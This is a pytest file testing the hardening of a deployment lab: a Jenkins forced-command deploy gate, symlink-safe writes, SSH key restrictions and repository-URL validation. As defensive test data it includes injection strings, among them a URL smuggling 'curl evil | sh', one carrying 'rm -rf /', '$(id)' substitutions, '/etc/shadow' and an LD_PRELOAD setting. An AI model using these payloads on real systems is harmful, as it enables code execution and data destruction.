"""The deployment's hardening, where the logic runs without a lab: the deploy gate (Jenkins'
forced command), files written as their user (no planted link followed), authorized_keys
options, and sshd's effective password settings."""

from __future__ import annotations

import contextlib
import os
import pwd
import re
import shutil
import signal
import subprocess
import tempfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from vpclab import remote
from vpclab.errors import VpclabError
from vpclab.facts import ssh_keys
from vpclab.hosts.ssh import Host, Result
from vpclab.steps import keys, scripts

ROOT = Path(__file__).resolve().parents[2]
GATE = ROOT / "scripts" / "deploy_gate.sh"
COMMIT = "0123456789abcdef0123456789abcdef01234567"
JENKINS_PUB = (
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJenkinsKeyBlob0000000000000000000000 jenkins@vpclab"
)
OTHER_PUB = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOperatorKeyBlob000000000000000000000 web-key"

needs_root = pytest.mark.skipif(
    os.geteuid() != 0 or shutil.which("sudo") is None,
    reason="needs root and sudo (to act as another user, as on a host)",
)


# --- the deploy gate ---------------------------------------------------------------------------


@pytest.fixture
def gate_conf(tmp_path: Path) -> Path:
    """Gate settings whose SETUP stub prints what it was given."""
    stub = tmp_path / "setup.sh"
    stub.write_text(
        'echo "args=$*"; echo "REF=$REF"; echo "REPO_URL=$REPO_URL"; '
        'echo "PIP_ARGS=$PIP_ARGS"; echo "LANG=${LANG:-unset}"; echo "EXTRA=${EXTRA:-unset}"\n'
    )
    conf = tmp_path / "deploy.conf"
    text = scripts.deploy_conf(
        {"REPO_URL": "git://192.0.2.1/repo.git", "APP_PORT": "5000", "PIP_ARGS": "--no-index"},
        "10.0.2.10",
    )
    conf.write_text(text + f"SETUP={stub}\n")
    conf.chmod(0o644)
    return conf


def _gate(conf: Path, request: str | None) -> subprocess.CompletedProcess:
    env = {"PATH": os.environ["PATH"], "HOME": "/tmp", "LANG": "C.UTF-8", "EXTRA": "sent"}
    if request is not None:
        env["SSH_ORIGINAL_COMMAND"] = request
    return subprocess.run(
        ["bash", str(GATE), str(conf)], env=env, capture_output=True, text=True, timeout=30
    )


@pytest.mark.parametrize(
    "request_line",
    [
        None,  # an interactive shell: sshd sets no SSH_ORIGINAL_COMMAND
        "bash -i",
        "true",
        "scp -t .ssh/authorized_keys",
        f"deploy {COMMIT}; id",
        f"deploy {COMMIT} extra",
        "deploy $(id)",
        "deploy main",
        f"deploy {COMMIT[:12]}",
        f"deploy {COMMIT.upper()}",
    ],
)
def test_the_gate_refuses_anything_but_deploy_of_a_commit(gate_conf: Path, request_line):
    done = _gate(gate_conf, request_line)
    assert done.returncode == 1, done.stdout + done.stderr
    assert "deploy-gate: refused" in done.stderr
    assert "args=" not in done.stdout


def test_the_gate_deploys_a_commit_with_the_lab_settings_only(gate_conf: Path):
    done = _gate(gate_conf, f"deploy {COMMIT}")
    assert done.returncode == 0, done.stderr
    out = dict(line.split("=", 1) for line in done.stdout.splitlines())
    assert out["args"] == "10.0.2.10"
    assert out["REF"] == COMMIT
    assert out["REPO_URL"] == "git://192.0.2.1/repo.git"
    assert out["PIP_ARGS"] == "--no-index"
    # Nothing the client's environment carried gets through.
    assert out["LANG"] == "unset" and out["EXTRA"] == "unset"


def test_the_gate_refuses_unknown_or_loose_settings(gate_conf: Path):
    text = gate_conf.read_text()
    gate_conf.write_text(text + "LD_PRELOAD=/tmp/x.so\n")
    done = _gate(gate_conf, f"deploy {COMMIT}")
    assert done.returncode == 1 and "unknown setting 'LD_PRELOAD'" in done.stderr
    gate_conf.write_text(text)
    gate_conf.chmod(0o666)
    done = _gate(gate_conf, f"deploy {COMMIT}")
    assert done.returncode == 1 and "writable by root only" in done.stderr
    done = _gate(gate_conf.with_name("missing.conf"), f"deploy {COMMIT}")
    assert done.returncode == 1 and "vpclab up --through scripts" in done.stderr


def test_the_gate_refuses_settings_someone_else_owns(gate_conf: Path):
    if os.geteuid() != 0:
        pytest.skip("needs root to give the file to another user")
    os.chown(gate_conf, pwd.getpwnam("nobody").pw_uid, -1)
    done = _gate(gate_conf, f"deploy {COMMIT}")
    assert done.returncode == 1 and "must be root's" in done.stderr


def test_deploy_settings_on_one_line_each():
    with pytest.raises(VpclabError, match="REPO_URL spans lines"):
        scripts.deploy_conf({"REPO_URL": "git://a/b\nSETUP=/tmp/evil"}, "10.0.2.10")


def test_ci_deploy_asks_the_gate_for_the_commit_only():
    text = (ROOT / "scripts" / "ci" / "deploy.sh").read_text()
    assert '"deploy $GIT_COMMIT"' in text
    assert "StrictHostKeyChecking=yes" in text and "-F /dev/null" in text
    assert "cat >" not in text  # no script is uploaded to the web server any more


# --- authorized_keys: Jenkins' key restricted --------------------------------------------------


def test_jenkins_key_is_authorized_once_and_restricted():
    before = f'{OTHER_PUB}\n{JENKINS_PUB}\nfrom="10.0.0.1" {JENKINS_PUB}\n'
    after = keys.authorize_only(before, JENKINS_PUB, ssh_keys.JENKINS_KEY_OPTIONS)
    lines = [ssh_keys.parse_key_line(raw) for raw in after.splitlines()]
    blob = JENKINS_PUB.split()[1]
    mine = [k for k in lines if k and k.blob == blob]
    assert [k.options for k in mine] == [ssh_keys.JENKINS_KEY_OPTIONS]
    assert ssh_keys.JENKINS_KEY_OPTIONS.startswith("restrict,command=")
    assert OTHER_PUB in after  # the operator's key is untouched
    assert keys.authorize_only(after, JENKINS_PUB, ssh_keys.JENKINS_KEY_OPTIONS) == after


# --- files in a user's home, written as that user ----------------------------------------------


class LocalHost:
    """Runs a step's command lines on this machine, as a Host runs them on a lab host."""

    name = "local"

    def run(self, cmd: str, *, sudo: bool = False, check: bool = True, input=None, **_) -> Result:
        argv = ["sh", "-c", cmd]
        done = subprocess.run(argv, input=input, capture_output=True, text=True, timeout=30)
        result = Result(done.returncode, done.stdout, done.stderr)
        if check and not result.ok:
            raise VpclabError(f"`{cmd}` failed: {done.stderr.strip()}")
        return result


@pytest.fixture
def nobody_home() -> Iterator[Path]:
    """A home folder of user `nobody` that nobody can reach (not under root's 0700 tmp)."""
    home = Path(tempfile.mkdtemp(prefix="vpclab-home-", dir="/tmp"))
    entry = pwd.getpwnam("nobody")
    os.chown(home, entry.pw_uid, entry.pw_gid)
    try:
        yield home
    finally:
        shutil.rmtree(home)


@needs_root
def test_a_planted_link_is_neither_read_nor_written_through(nobody_home: Path, tmp_path: Path):
    secret = tmp_path / "root-only"
    secret.write_text("TOP-SECRET\n")
    secret.chmod(0o600)
    ssh = nobody_home / ".ssh"
    subprocess.run(["sudo", "-u", "nobody", "mkdir", "-m", "700", str(ssh)], check=True)
    planted = ssh / "known_hosts"
    subprocess.run(["sudo", "-u", "nobody", "ln", "-s", str(secret), str(planted)], check=True)

    host = LocalHost()
    assert remote.read_as(host, "nobody", str(planted)) is None
    assert remote.ensure_user_file(
        host, "nobody", str(planted), "10.0.1.5 ssh-ed25519 AAAA\n", 0o644
    )

    assert secret.read_text() == "TOP-SECRET\n"  # not written through the link
    assert secret.stat().st_mode & 0o777 == 0o600 and secret.stat().st_uid == 0
    assert not planted.is_symlink()
    assert planted.read_text() == "10.0.1.5 ssh-ed25519 AAAA\n"
    st = planted.stat()
    assert st.st_uid == pwd.getpwnam("nobody").pw_uid and st.st_mode & 0o777 == 0o644
    # Again: nothing to change, the mode kept.
    assert not remote.ensure_user_file(
        host, "nobody", str(planted), "10.0.1.5 ssh-ed25519 AAAA\n", 0o644
    )


@needs_root
def test_a_private_file_is_made_under_umask_077(nobody_home: Path):
    key = nobody_home / ".ssh" / "app_key"
    remote.ensure_user_file(LocalHost(), "nobody", str(key), "PRIVATE\n", 0o600)
    assert key.stat().st_mode & 0o777 == 0o600
    assert key.parent.stat().st_mode & 0o777 == 0o700
    assert not list(key.parent.glob(".vpclab.*"))  # no temporary file left


def test_a_staged_file_gets_its_mode_before_its_bytes(tmp_path: Path):
    calls: list[str] = []

    class File:
        def __enter__(self):
            return self

        def __exit__(self, *_):
            calls.append("close")

        def chmod(self, mode: int) -> None:
            calls.append(f"chmod {mode:o}")

        def set_pipelined(self, _on: bool) -> None:
            pass

        def write(self, _data: bytes) -> None:
            calls.append("write")

    class Sftp:
        def __enter__(self):
            return self

        def __exit__(self, *_):
            pass

        def open(self, _path: str, _how: str) -> File:
            calls.append("open")
            return File()

    class Transport:
        def open_sftp_client(self) -> Sftp:
            return Sftp()

    class Staging(Host):
        @property
        def transport(self):  # type: ignore[override]
            return Transport()

    host = Staging("192.0.2.1", key_file=tmp_path / "k", known_hosts=tmp_path / "kh")
    host._sftp_write("/tmp/.vpclab-put-x", b"PRIVATE", 0o600)
    assert calls == ["open", "chmod 600", "write", "close"]


# --- sshd's effective password settings --------------------------------------------------------


class SshdT(LocalHost):
    def __init__(self, text: str, rc: int = 0) -> None:
        self.text, self.rc = text, rc

    def run(self, cmd: str, **_) -> Result:
        assert cmd == "sshd -T"
        return Result(self.rc, self.text, "" if self.rc == 0 else "line 3: Bad configuration")


def test_password_login_read_from_sshd_effective_config():
    off = "port 22\npasswordauthentication no\nkbdinteractiveauthentication no\n"
    assert not keys.password_login_on(SshdT(off))
    assert keys.password_login_on(
        SshdT(off.replace("passwordauthentication no", "passwordauthentication yes"))
    )
    assert keys.password_login_on(
        SshdT(off.replace("kbdinteractiveauthentication no", "kbdinteractiveauthentication yes"))
    )
    with pytest.raises(VpclabError, match="sshd -T failed"):
        keys.password_login_on(SshdT("", rc=1))


def test_the_drop_in_sorts_before_the_others():
    name = Path(keys.SSHD_DROPIN).name
    for other in (
        "00-vpclab.conf",
        "10-password.conf",
        "50-cloud-init.conf",
        "60-vpclab-no-password.conf",
    ):
        assert sorted([other, name])[0] == name


# --- start_app.sh: one deploy at a time -----------------------------------------------------


def test_a_second_deploy_waits_for_the_lock_then_gives_up(tmp_path: Path):
    if os.geteuid() != 0:
        pytest.skip("start_app.sh runs as root only")
    lock = tmp_path / "deploy.lock"
    holder = subprocess.Popen(["flock", str(lock), "sleep", "30"])
    try:
        deadline = 50
        while deadline and subprocess.run(["flock", "-n", str(lock), "true"]).returncode == 0:
            deadline -= 1
            subprocess.run(["sleep", "0.1"])
        env = {
            "PATH": os.environ["PATH"],
            "REPO_URL": "git://192.0.2.1/none.git",
            "LOCK_FILE": str(lock),
            "DEPLOY_LOCK_WAIT": "1",
        }
        done = subprocess.run(
            ["bash", str(ROOT / "scripts" / "start_app.sh")],
            env=env,
            capture_output=True,
            text=True,
            timeout=30,
        )
    finally:
        holder.kill()
        holder.wait()
    assert done.returncode == 1
    assert f"another deploy holds {lock} (waited 1 s)" in done.stderr


# --- preflight: admin_cidr --------------------------------------------------------------------


@pytest.mark.parametrize(
    "cidr", ["0.0.0.0/0", "0.0.0.0/1", "128.0.0.0/1", "10.0.0.0/8", "100.64.0.0/10"]
)
def test_preflight_refuses_any_too_wide_admin_cidr(cidr: str):
    from vpclab.aws import admin

    with pytest.raises(VpclabError, match=f"admin_cidr {re.escape(cidr)} opens SSH") as exc:
        admin.check_for_aws(cidr, allow_world=False)
    assert "\n" not in exc.value.line() and "--allow-world-admin" in (exc.value.fix or "")
    admin.check_for_aws(cidr, allow_world=True)  # asked for: allowed


@pytest.mark.parametrize("cidr", ["81.2.69.160/32", "81.2.0.0/16"])
def test_preflight_accepts_a_narrow_admin_cidr(cidr: str):
    from vpclab.aws import admin

    admin.check_for_aws(cidr, allow_world=False)


# --- vpclab ssh: the operator's ssh config has no say -------------------------------------------


def test_vpclab_ssh_ignores_the_operators_config(tmp_path: Path, monkeypatch):
    import shlex

    from vpclab.hosts.shell import ssh_command
    from vpclab.hosts.ssh import known_hosts_path
    from vpclab.keygen import new_ed25519

    monkeypatch.setenv("VPCLAB_STATE", str(tmp_path / "state"))
    keys_folder = known_hosts_path("lab1").parent
    keys_folder.mkdir(parents=True)
    (keys_folder / "lab1-key.pem").write_bytes(new_ed25519().private_pem)
    (keys_folder / "lab1-key.pem").chmod(0o600)
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "config").write_text(
        "Host *\n  ForwardAgent yes\n  ForwardX11 yes\n  StrictHostKeyChecking no\n"
        "  ProxyJump evil.example\n"
    )
    argv = ssh_command(
        "lab1", "app", address="10.0.2.10", jump="198.51.100.7", key_name="lab1-key", local=False
    )
    proxy = next(a for a in argv if a.startswith("ProxyCommand="))
    for hop in (argv, shlex.split(proxy.removeprefix("ProxyCommand="))):
        assert "-F" in hop and hop[hop.index("-F") + 1] == "/dev/null"
        assert "ForwardAgent=no" in hop and "StrictHostKeyChecking=yes" in hop
    # ssh -G prints the configuration ssh would use, without connecting.
    shown = subprocess.run(
        [argv[0], "-G", *argv[1:]],
        env={**os.environ, "HOME": str(home)},
        capture_output=True,
        text=True,
        timeout=10,
    )
    assert shown.returncode == 0, shown.stderr
    config = dict(line.split(" ", 1) for line in shown.stdout.splitlines() if " " in line)
    assert config["forwardagent"] == "no" and config["forwardx11"] == "no"
    assert config["stricthostkeychecking"] == "true"
    assert "proxyjump" not in config and "evil.example" not in shown.stdout


# --- VPCLAB_REPO_URL: checked before it reaches a root heredoc or the Job DSL --------------------


@pytest.mark.parametrize(
    "url",
    [
        "https://github.com/o/r.git'; curl evil | sh; echo '",
        'https://github.com/o/r"\nEOF\nrm -rf /',
        "https://github.com/o/$(id)",
        "http://github.com/o/r.git",
        "file:///etc/shadow",
        "https://github.com/o/r.git extra",
    ],
)
def test_a_repo_url_that_could_break_out_is_refused_in_one_line(url: str, monkeypatch):
    from vpclab.aws import jenkins_setup

    monkeypatch.setenv(jenkins_setup.REPO_ENV, url)
    with pytest.raises(VpclabError, match="is not a plain https URL") as exc:
        jenkins_setup.repo_url("Jenkins on aws")
    assert "\n" not in exc.value.line()


def test_a_plain_repo_url_is_used(monkeypatch):
    from vpclab.aws import jenkins_setup

    url = "https://github.com/owner/microblog_VPC_deployment.git"
    monkeypatch.setenv(jenkins_setup.REPO_ENV, url)
    assert jenkins_setup.repo_url("Jenkins on aws") == url
    monkeypatch.delenv(jenkins_setup.REPO_ENV)
    with pytest.raises(VpclabError, match="needs the project's repository"):
        jenkins_setup.repo_url("Jenkins on aws")


# --- the web security group: exactly its rules ----------------------------------------------


def test_up_removes_extra_web_rules_and_the_check_names_them(lab):
    from vpclab.facts.security_groups import Ingress
    from vpclab.steps.compute import ensure_security_group

    lab.up(through="instances")
    ctx = lab.context()
    groups = ctx.state().security_groups
    web, mon = groups["web"]["GroupId"], groups["monitoring"]["GroupId"]
    # The monitoring step's scrapes are the web SG's too: they stay.
    ports = ctx.spec.ports
    scrape = [Ingress(ports.node_exporter, group_id=mon, description="monitoring")]
    ensure_security_group(ctx, "web", "", groups["web"], scrape, "")
    ctx.ec2.authorize_security_group_ingress(
        GroupId=web,
        IpPermissions=[
            {
                "IpProtocol": "tcp",
                "FromPort": 8080,
                "ToPort": 8080,
                "IpRanges": [{"CidrIp": "0.0.0.0/0"}],
            },
            {
                "IpProtocol": "tcp",
                "FromPort": 22,
                "ToPort": 22,
                "IpRanges": [{"CidrIp": "0.0.0.0/0"}],
            },
            {
                "IpProtocol": "udp",
                "FromPort": 53,
                "ToPort": 53,
                "IpRanges": [{"CidrIp": "10.0.0.0/8"}],
            },
            {
                "IpProtocol": "tcp",
                "FromPort": 80,
                "ToPort": 80,
                "Ipv6Ranges": [{"CidrIpv6": "::/0"}],
            },
        ],
    )
    result = {r.id: r for r in lab.verify(step="instances")}["instances.web_security_group"]
    assert result.status.name == "FAIL", result
    for seen in (
        "tcp 8080 from 0.0.0.0/0",
        "tcp 22 from 0.0.0.0/0",
        "udp 53 from 10.0.0.0/8",
        "tcp 80 from ::/0",
    ):
        assert seen in result.detail, result.detail
    assert "vpclab up --through instances" in result.hint

    said: list[str] = []
    from vpclab.lab import Lab

    Lab(lab.spec_path, "local", say=said.append).up(through="instances")
    assert any("web security group: removed" in line for line in said), said
    result = {r.id: r for r in lab.verify(step="instances")}["instances.web_security_group"]
    assert result.status.name == "PASS", result
    web_group = lab.context().state().security_groups["web"]
    sources = {
        (p.get("FromPort"), s.get("CidrIp") or s.get("CidrIpv6") or s.get("GroupId"))
        for p in web_group["IpPermissions"]
        for key in ("IpRanges", "Ipv6Ranges", "UserIdGroupPairs")
        for s in p.get(key, [])
    }
    assert (ports.node_exporter, mon) in sources  # the scrape stayed
    assert (8080, "0.0.0.0/0") not in sources and (80, "::/0") not in sources


def test_in_a_build_the_web_group_is_judged_without_the_repositorys_admin_cidr(lab, monkeypatch):
    # Jenkins' Verify reads the repository's spec: its admin CIDR is not the operator's.
    lab.up(through="instances")
    ctx = lab.context()
    web = ctx.state().security_groups["web"]["GroupId"]
    ssh = ctx.spec.ports.ssh

    def ssh_rule(cidr: str) -> dict:
        return {"IpProtocol": "tcp", "FromPort": ssh, "ToPort": ssh, "IpRanges": [{"CidrIp": cidr}]}

    def web_check():
        return {r.id: r for r in lab.verify(step="instances")}["instances.web_security_group"]

    [spec_admin] = [
        r["CidrIp"]
        for p in ctx.state().security_groups["web"]["IpPermissions"]
        if p.get("FromPort") == ssh
        for r in p.get("IpRanges", [])
    ]
    ctx.ec2.revoke_security_group_ingress(GroupId=web, IpPermissions=[ssh_rule(spec_admin)])
    ctx.ec2.authorize_security_group_ingress(
        GroupId=web, IpPermissions=[ssh_rule("198.51.100.7/32")]
    )
    outside = web_check()
    assert outside.status.name == "FAIL" and "22 from admin" in outside.detail, outside

    monkeypatch.setenv("BUILD_NUMBER", "7")
    monkeypatch.setenv("WORKSPACE", "/var/lib/jenkins/workspace/workload_4")
    assert web_check().status.name == "PASS"  # the operator's own CIDR, whatever it is

    ctx.ec2.revoke_security_group_ingress(GroupId=web, IpPermissions=[ssh_rule("198.51.100.7/32")])
    ctx.ec2.authorize_security_group_ingress(GroupId=web, IpPermissions=[ssh_rule("0.0.0.0/0")])
    world = web_check()
    assert world.status.name == "FAIL" and "22 from admin" in world.detail, world


# --- Jenkins and Grafana: through an SSH tunnel only ------------------------------------------


def _admin_ports(group: dict) -> set[int]:
    return {p.get("FromPort") for p in group["IpPermissions"] if p.get("IpRanges")}


def test_the_jenkins_ui_and_grafana_are_open_to_no_one_and_an_older_labs_rules_go(lab):
    lab.up(through="instances")
    ctx = lab.context()
    ports, admin = ctx.spec.ports, ctx.spec.admin_cidr
    groups = ctx.state().security_groups
    assert _admin_ports(groups["jenkins"]) == {ports.ssh}
    assert _admin_ports(groups["monitoring"]) == {ports.ssh, ports.prometheus}
    # An older lab opened both to the admin range: the next `up` removes them and says so.
    for role, port in (("jenkins", 8080), ("monitoring", ports.grafana)):
        ctx.ec2.authorize_security_group_ingress(
            GroupId=groups[role]["GroupId"],
            IpPermissions=[
                {
                    "IpProtocol": "tcp",
                    "FromPort": port,
                    "ToPort": port,
                    "IpRanges": [{"CidrIp": admin}],
                }
            ],
        )
    said: list[str] = []
    from vpclab.lab import Lab

    Lab(lab.spec_path, "local", say=said.append).up(through="instances")
    assert any(f"jenkins security group: removed tcp 8080 from {admin}" in s for s in said), said
    assert any(
        f"monitoring security group: removed tcp {ports.grafana} from {admin}" in s for s in said
    ), said
    groups = lab.context().state().security_groups
    assert _admin_ports(groups["jenkins"]) == {ports.ssh}
    assert _admin_ports(groups["monitoring"]) == {ports.ssh, ports.prometheus}


def test_a_forward_passes_only_when_web_refuses_it():
    from vpclab.checks.keys import forward_refused

    stderr = "channel 0: open failed: {}: open failed\r\nstdio forwarding failed\r\n"
    refused = Result(255, "", stderr.format("administratively prohibited"))
    assert forward_refused(refused, "10.0.2.4:22") is None
    answered = forward_refused(Result(0, "SSH-2.0-OpenSSH_9.2p1\r\n", ""), "10.0.2.4:22")
    assert "forwarded a connection through web to 10.0.2.4:22" in answered.detail
    # Allowed, but the far end is down: not a refusal.
    down = forward_refused(Result(255, "", stderr.format("connect failed")), "10.0.2.4:22")
    assert "was not refused by web" in down.detail and "connect failed" in down.detail


def _sh(line: str, timeout: float) -> subprocess.CompletedProcess:
    """`line` under /bin/sh in a session of its own, whose leftovers are stopped after."""
    proc = subprocess.Popen(
        ["/bin/sh", "-c", line],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    try:
        out, err = proc.communicate(timeout=timeout)
        return subprocess.CompletedProcess(proc.args, proc.returncode, out, err)
    finally:
        with contextlib.suppress(ProcessLookupError):
            os.killpg(proc.pid, signal.SIGTERM)  # the stdin writer, if still sleeping
        proc.wait()


def test_a_refused_forward_does_not_wait_for_its_stdin_and_an_open_one_reads_it():
    from vpclab.checks.keys import forward_line

    # Refused at once: the line ends long before its 60 s writer would.
    refused = _sh(forward_line("sh -c 'echo prohibited >&2; exit 255'", hold=60), timeout=20)
    assert (refused.returncode, refused.stderr) == (255, "prohibited\n")
    # Open: stdin stays open until the writer ends, then comes EOF (a banner read after it).
    opened = _sh(forward_line("sh -c 'cat >/dev/null; echo SSH-2.0-far'", hold=1), timeout=20)
    assert (opened.returncode, opened.stdout) == (0, "SSH-2.0-far\n")
